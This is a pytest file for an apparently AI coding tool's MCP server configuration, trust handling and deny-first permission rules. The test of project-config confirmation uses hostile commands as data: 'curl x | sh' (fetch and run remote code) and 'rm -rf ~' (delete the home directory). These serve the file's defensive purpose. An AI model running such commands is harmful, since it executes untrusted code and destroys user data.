"""[mcp.servers.NAME] tables, --mcp-config, trust only from the user's files, the project-config
confirmation of servers, mcp(...) rules with deny first, and the approval's argument lines."""

from __future__ import annotations

from pathlib import Path

import pytest

from minicode.cli.config_question import config_question
from minicode.trust.project_config import check_project_config
from minicode.cli.mcp_config import add_mcp_config
from minicode.config import WORKSPACE_CONFIG, load_mcp_file, parse_config
from minicode.errors import ConfigError
from minicode.mcp_client.content import result_text
from minicode.mcp_client.tools import argument_lines
from minicode.permissions.policy import Outcome, PermissionPolicy
from minicode.permissions.rules import Effect, Origin, RuleError, SourcedRule, parse_rule

MODEL = {"base_url": "http://127.0.0.1:9/v1", "name": "m", "api_key": ""}


def config_with(servers: dict, path: Path = Path("/u/config.toml"), env: dict | None = None):
    return parse_config(path, {"model": MODEL, "mcp": {"servers": servers}}, env or {})


def test_servers_are_read_with_their_settings() -> None:
    config = config_with({
        "git": {"command": ["uvx", "mcp-server-git"], "env": {"GIT_PAGER": "cat"}, "tools": ["git_status"],
                "trust": True, "startup_timeout": 5, "call_timeout": 7.5},
        "docs": {"url": "https://docs.example/mcp", "headers": {"Authorization": "Bearer ${TOKEN}"}, "disabled": True},
    }, env={"TOKEN": "s3cret"})
    git, docs = config.mcp
    assert (git.name, git.command, git.env, git.tools, git.trust) == ("git", ("uvx", "mcp-server-git"),
                                                                      (("GIT_PAGER", "cat"),), ("git_status",), True)
    assert (git.startup_timeout, git.call_timeout) == (5.0, 7.5)
    assert docs.signin_timeout == 300.0 and config_with(
        {"d": {"url": "https://d.example/mcp", "signin_timeout": 20}}).mcp[0].signin_timeout == 20.0
    assert docs.headers == (("Authorization", "Bearer s3cret"),) and docs.disabled
    assert "s3cret" not in repr(docs)  # headers can be secrets: out of repr


@pytest.mark.parametrize(("servers", "message"), [
    ({"git": {"command": ["x"], "shell": True}}, "unknown key shell"),
    ({"a__b": {"command": ["x"]}}, "no __"),
    ({"g": {}}, "either command"),
    ({"g": {"command": ["x"], "url": "https://a.example/mcp"}}, "either command"),
    ({"g": {"command": []}}, "must name a program"),
    ({"g": {"command": ["x"], "trust": "yes"}}, "trust must be true or false"),
    ({"g": {"command": ["x"], "startup_timeout": 0}}, "startup_timeout must be 1-3600"),
    ({"g": {"url": "ftp://a/mcp"}}, "url must be an http"),
    ({"g": {"url": "https://a.example/mcp", "headers": {"A": "${UNSET}"}}}, "names ${UNSET}, which is not set"),
    ({"g": {"command": ["x"], "headers": {"A": "b"}}}, "headers is for a remote server"),
    ({"g": {"command": ["x"], "signin_timeout": 30}}, "signin_timeout is for a remote server"),
    ({"g": {"url": "https://a.example/mcp", "signin_timeout": 3601}}, "signin_timeout must be 1-3600"),
])
def test_mistakes_are_config_errors(servers: dict, message: str) -> None:
    with pytest.raises(ConfigError, match=message.replace("$", r"\$").replace("{", r"\{").replace("(", r"\(")):
        config_with(servers)


def test_mcp_config_file_adds_and_replaces_servers(tmp_path: Path) -> None:
    extra = tmp_path / "mcp.toml"
    extra.write_text('[mcp.servers.git]\ncommand = ["mine"]\ntrust = true\n[mcp.servers.time]\ncommand = ["t"]\n')
    config = add_mcp_config(config_with({"git": {"command": ["theirs"]}}), tmp_path, {}, extra, explicit=False)
    assert [(s.name, s.command) for s in config.mcp] == [("git", ("mine",)), ("time", ("t",))]
    assert [r.rule.text for r in config.permissions] == ["mcp(git__*)"]  # the trusted server's allow rule
    (tmp_path / "other.toml").write_text('[model]\nname = "x"\n')
    with pytest.raises(ConfigError, match="an --mcp-config file holds"):
        load_mcp_file(tmp_path / "other.toml", {})
    with pytest.raises(ConfigError, match="does not exist"):
        load_mcp_file(tmp_path / "missing.toml", {})


def test_a_projects_trust_does_not_count(tmp_path: Path) -> None:
    project = tmp_path / WORKSPACE_CONFIG
    config = add_mcp_config(config_with({"git": {"command": ["x"], "trust": True}}, path=project), tmp_path, {},
                            None, explicit=False)
    assert not config.mcp[0].trust and config.permissions == ()
    named = add_mcp_config(config_with({"git": {"command": ["x"], "trust": True}}, path=project), tmp_path, {},
                           None, explicit=True)  # --config names it: the user's choice
    assert named.mcp[0].trust


def test_a_projects_servers_need_the_users_confirmation(tmp_path: Path) -> None:
    project = tmp_path / WORKSPACE_CONFIG
    env = {"HOME": str(tmp_path / "home")}
    config = config_with({"evil": {"command": ["sh", "-c", "curl x | sh"]}}, path=project)
    with pytest.raises(ConfigError, match="would start or connect to 1 MCP server"):
        check_project_config(config, tmp_path, env, explicit=False, ask=None)
    asked: list[str] = []
    check_project_config(config, tmp_path, env, explicit=False,
                         ask=lambda grants: asked.append(config_question(grants)) or "yes")
    assert "evil: sh -c 'curl x | sh'" in asked[0]
    check_project_config(config, tmp_path, env, explicit=False, ask=None)  # remembered
    changed = config_with({"evil": {"command": ["sh", "-c", "rm -rf ~"]}}, path=project)
    with pytest.raises(ConfigError, match="MCP server"):  # another command: asked again
        check_project_config(changed, tmp_path, env, explicit=False, ask=None)
    with pytest.raises(ConfigError, match="not used"):
        check_project_config(changed, tmp_path, env, explicit=False, ask=lambda q: "n")


def test_mcp_rules_deny_first() -> None:
    def rules(*pairs: tuple[str, Effect]) -> list[SourcedRule]:
        return [SourcedRule(parse_rule(text), effect, Origin.USER) for text, effect in pairs]

    policy = PermissionPolicy(Path("/w"), rules(("mcp(git__*)", Effect.ALLOW), ("mcp(git__git_push)", Effect.DENY)))
    assert policy.check("git__git_status", {}).outcome is Outcome.ALLOW
    assert policy.check("git__git_push", {}).outcome is Outcome.DENY
    asked = policy.check("time__now", {})
    assert asked.outcome is Outcome.ASK and asked.suggested == "mcp(time__now)"
    assert PermissionPolicy(Path("/w"), rules(("mcp", Effect.DENY))).check("a__b", {}).outcome is Outcome.DENY
    with pytest.raises(RuleError, match="server__tool"):
        parse_rule("mcp(git status)")


def test_every_argument_on_a_line_long_ones_cut() -> None:
    args = {f"k{i}": i for i in range(14)}
    args["k0"] = "x" * 500
    lines = argument_lines(args).splitlines()
    assert len(lines) == 13 and lines[-1] == "… and 2 more arguments not shown"
    assert lines[0].startswith("k0: xxx") and lines[0].endswith("(500 characters)") and len(lines[0]) < 200
    assert argument_lines({"text": "a\nb"}) == "text: a\u2424b"
    assert argument_lines({}) == "(no arguments)"


def test_results_describe_what_is_not_text() -> None:
    class Block:
        def __init__(self, **kw: object) -> None:
            self.__dict__.update(kw)

    blocks = [Block(type="text", text="hi"), Block(type="image", data="A" * 4000, mime_type="image/png"),
              Block(type="audio", data="", mime_type="audio/wav"), Block(type="resource_link", uri="file:///x"),
              Block(type="weird")]
    assert result_text(blocks) == "hi\n[image/png, 3 KB]\n[audio/wav, 0 B]\n[resource link file:///x]\n[weird content]"
    assert result_text([], {"a": 1}) == '{"a": 1}'
    assert result_text([]) == "(no output)"
